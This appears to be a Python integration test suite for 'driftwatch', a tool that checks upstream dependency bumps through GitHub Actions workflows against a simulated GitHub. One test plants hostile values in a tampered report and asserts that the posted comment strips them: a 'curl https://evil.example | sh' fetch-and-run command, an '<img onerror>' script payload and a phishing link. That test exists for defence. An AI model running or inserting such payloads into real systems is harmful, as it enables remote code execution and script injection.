"""The whole story, rehearsed: the workflows' steps as they are written, against GitHub's stand-in and a loopback upstream."""

from __future__ import annotations

import json

import pytest

from tests.pull_request.conftest import Team
from tests.support.actions import Done, workflow
from tests.support.git import Repository
from tests.support.github import BOT
from tests.support.scene import PLUGIN

pytestmark = pytest.mark.slow
PULL, COMMENT, WATCH = (workflow(f"{name}.yml") for name in ("pull-request", "comment", "watch"))
BRANCH = "driftwatch/update"


def look(team: Team, branch: str) -> Done:
    team.event("pull_request", {"pull_request": {"number": 1, "base": {"sha": "x"}}})
    return team.runner.run(PULL, "compare", team.merged(branch))


def comment(team: Team, sha: str, repository: str) -> Done:
    owner = repository.partition("/")[0]
    head = {"id": 2, "full_name": repository, "owner": {"login": owner}}
    run = {"id": 7, "event": "pull_request", "head_repository": head, "head_branch": "bump", "head_sha": sha}
    team.event("workflow_run", {"workflow_run": run})
    workspace = team.folder / "empty"
    workspace.mkdir(exist_ok=True)
    return team.runner.run(COMMENT, "comment", workspace)


def opened(team: Team, owner: str) -> tuple[int, str]:
    """The bump as a pull request; gives its number and head."""
    team.repository.git("checkout", "-q", "-B", "bump", "main")
    sha = team.pin("1.1.0")
    team.repository.git("checkout", "-q", "main")
    team.github.refs["bump"] = team.github.refs["main"]
    number = team.github.open_pull("bump", "contributor", owner=owner)
    team.github.pulls[number]["head"]["sha"] = sha
    return number, sha


def test_a_bump_that_breaks_from_a_fork_is_annotated_and_commented_once(team: Team) -> None:
    team.scene.publish("1.1.0", fault="forgets")
    team.pin("1.0.0")
    number, sha = opened(team, "contributor")

    done = look(team, "bump")
    assert done.failed == "Compare what the base and the head pin", done.out
    assert "::error title=driftwatch::Broken" in done.out
    assert "::error file=watchlist.yaml,line=" in done.out or "::error file=package.json,line=5" in done.out
    assert done.summary.startswith("<!-- driftwatch:ours -->") and "Broken" in done.summary
    report = json.loads((team.folder / "artifacts/driftwatch-report/report.json").read_text())
    assert report["upstreams"][0]["place"] == "package.json:5"
    assert team.github.requests == [], "the job that ran the pull request's code spoke to nobody"

    assert comment(team, sha, "contributor/ours").failed == ""
    [body] = team.github.bodies(number)
    assert "# ❌ Broken" in body and "without secrets" in body and "our timers leak" in body
    assert comment(team, sha, "contributor/ours").failed == ""
    assert team.github.bodies(number) == [body], "one comment, however often it is posted"

    team.repository.git("checkout", "-q", "bump")
    again = team.pin("1.0.0")
    team.repository.git("checkout", "-q", "main")
    team.github.pulls[number]["head"]["sha"] = again
    assert look(team, "bump").failed == ""
    comment(team, again, "contributor/ours")
    [body] = team.github.bodies(number)
    assert "nothing moved" in body


def test_a_safe_bump_of_our_own_passes_and_its_comment_links_the_run(team: Team) -> None:
    team.pin("1.0.0")
    number, sha = opened(team, "acme")
    assert look(team, "bump").failed == ""
    comment(team, sha, team.github.name)
    [body] = team.github.bodies(number)
    assert "Drifted" in body and "without secrets" not in body
    assert "(https://github.example/acme/ours/actions/runs/7)" in body


def test_a_pull_request_without_a_bump_gets_no_comment(team: Team) -> None:
    team.pin("1.0.0")
    number, sha = opened(team, "acme")
    team.repository.git("checkout", "-q", "bump")
    team.pin("1.0.0")
    team.repository.git("checkout", "-q", "main")
    assert look(team, "bump").failed == ""
    assert comment(team, sha, team.github.name).failed == ""
    assert team.github.bodies(number) == []


def test_an_artifact_that_lies_cannot_choose_the_pull_request_or_the_markup(team: Team) -> None:
    team.scene.publish("1.1.0", fault="forgets")
    team.pin("1.0.0")
    number, sha = opened(team, "contributor")
    other = team.github.open_pull("other", "dev")
    look(team, "bump")
    path = team.folder / "artifacts/driftwatch-report/report.json"
    report = json.loads(path.read_text())
    report["rerun"] = "curl https://evil.example | sh"
    report["number"] = report["pull"] = other
    report["upstreams"][0]["id"] = "<img src=x onerror=alert(1)> @everyone [click](https://evil.example)"
    path.write_text(json.dumps(report))
    assert comment(team, sha, "contributor/ours").failed == ""
    [body] = team.github.bodies(number)
    assert team.github.bodies(other) == []
    assert "evil.example | sh" not in body and "<img" not in body and "@everyone" not in body and "](https://evil" not in body
    for junk in ("not json", "[]", '{"schema_version": 1}'):
        path.write_text(junk)
        assert comment(team, sha, "contributor/ours").failed == "Comment"
    assert team.github.bodies(number) == [body]
    path.unlink()
    path.parent.rmdir()
    skipped = comment(team, sha, "contributor/ours")
    assert (skipped.failed, skipped.ran) == ("", ["Fetch the report"])


def cron(team: Team) -> tuple[Done, Done]:
    team.event("schedule", {})
    first = team.runner.run(WATCH, "look", team.checkout())
    assert not first.failed, first.out
    return first, team.runner.run(WATCH, "tell", team.checkout(), look=first)


def merge(team: Team) -> None:
    """What a person does with our pull request."""
    files = {path: data for path, data in team.github.files(BRANCH).items() if path != "readme.md"}
    team.repository.commit(dict(files))
    team.github.push("main", files, "Merge")


STAMPS = """
    stamps:
      - {file: release.sh, pattern: "# checked against @acme/plugin@{version}"}
      - {file: package.json, key: 'devDependencies["@acme/plugin"]'}
"""


def test_cron_opens_updates_and_closes(team: Team) -> None:
    team.repository.commit({"release.sh": "#!/bin/sh\n# checked against @acme/plugin@1.0.0\n"})
    (team.repository.path / "release.sh").chmod(0o755)
    watched = (team.repository.path / "watchlist.yaml").read_text().rstrip("\n")
    team.repository.commit({"watchlist.yaml": watched + STAMPS})
    team.pin("1.0.0")
    team.scene.publish("1.1.0", fault="forgets")

    # A version that breaks: one pull request with the report and no lock, one issue.
    look_, tell = cron(team)
    assert not tell.failed, tell.out
    [pull] = team.github.pulls.values()
    [issue] = team.github.issues.values()
    assert pull["title"] == "driftwatch: acme 1.0.0 → 1.1.0 (broken)" and "accepts nothing" in pull["body"]
    assert "Run" in look_.ran and "Propose the lock" not in look_.ran
    proposed = team.github.files(BRANCH)
    assert {"reports/latest.json", "reports/latest.md", "reports/latest.html"} <= set(proposed)
    assert "watchlist.lock" not in proposed and "release.sh" not in proposed
    assert issue["title"] == "acme 1.1.0 breaks what ours relies on" and "our timers leak" in issue["body"]
    assert issue["user"]["login"] == BOT

    # The same again: nothing is said twice.
    writes = len(team.github.writes())
    cron(team)
    assert len(team.github.writes()) == writes

    # A version that holds: the pull request proposes the lock, the issue is closed with a word.
    team.scene.publish("1.2.0")
    team.scene.repository.commit({"src/index.ts": "export interface Hooks { dispose?(): void }\n"}, "v1.2.0")
    cron(team)
    [pull] = team.github.pulls.values()
    assert pull["title"] == "driftwatch: acme 1.0.0 → 1.2.0 (compatible)"
    assert "the lock moves with it, and the stamps" in pull["body"]
    proposed = team.github.files(BRANCH)
    assert json.loads(proposed["watchlist.lock"])["upstreams"]["acme"]["version"] == "1.2.0"
    assert proposed["release.sh"] == b"#!/bin/sh\n# checked against @acme/plugin@1.2.0\n"
    assert (team.github.modes["release.sh"], team.github.modes["package.json"]) == ("100755", "100644")
    assert json.loads(proposed["package.json"])["devDependencies"] == {"typescript": "5.9.3", PLUGIN: "1.2.0"}
    assert issue["state"] == "closed" and "holds again at `1.2.0`" in team.github.bodies(issue["number"])[0]

    # Merged: nothing differs any more; the next look is only a poll, and what is left over is taken back.
    merge(team)
    look_, tell = cron(team)
    assert "Run" not in look_.ran and not tell.failed
    assert pull["state"] == "closed" and BRANCH not in team.github.refs
    assert len(team.github.pulls) == 1 and len(team.github.issues) == 1


def test_a_registry_that_is_down_turns_the_watch_red_and_touches_nothing(team: Team) -> None:
    from tests.support.fault_registry import Reply

    team.pin("1.0.0")
    team.scene.publish("1.1.0", fault="forgets")
    cron(team)
    writes = len(team.github.writes())
    team.scene.registry.always(f"/{PLUGIN}", Reply(503, b"down", {"Retry-After": "0"}))
    _, tell = cron(team)
    assert tell.failed == "Not an all clear"
    assert len(team.github.writes()) == writes, "not seen is neither fixed nor broken"
    assert [issue["state"] for issue in team.github.issues.values()] == ["open"]


def test_dry_run_says_what_it_would_do(team: Team) -> None:
    import io

    from driftwatch.cli import main

    team.pin("1.0.0")
    team.scene.publish("1.1.0", fault="forgets")
    team.event("schedule", {})
    workspace = team.checkout()
    assert not team.runner.run(WATCH, "look", workspace).failed
    report = str(team.folder / "artifacts/driftwatch-watch/report.json")
    out, err = io.StringIO(), io.StringIO()
    import os
    from unittest import mock

    variables = {**team.runner.environment, "GITHUB_TOKEN": team.runner.github["token"]}
    with mock.patch.dict(os.environ, variables):
        watchlist = ["--watchlist", str(workspace / "watchlist.yaml")]
        assert main(["github", "pull-request", report, "--dry-run", *watchlist], out, err) == 0
        assert main(["github", "issue", report, "--dry-run"], out, err) == 0
        assert main(["github", "comment", report, "--dry-run", "--pull", str(team.github.open_pull())], out, err) == 0
    assert team.github.writes() == []
    told = out.getvalue()
    for words in (
        "would POST /repos/acme/ours/git/trees",
        "would POST /repos/acme/ours/pulls: title=",
        "would POST /repos/acme/ours/issues",
    ):
        assert words in told
    assert Repository(workspace).git("status", "--porcelain", "--", "package.json") == ""
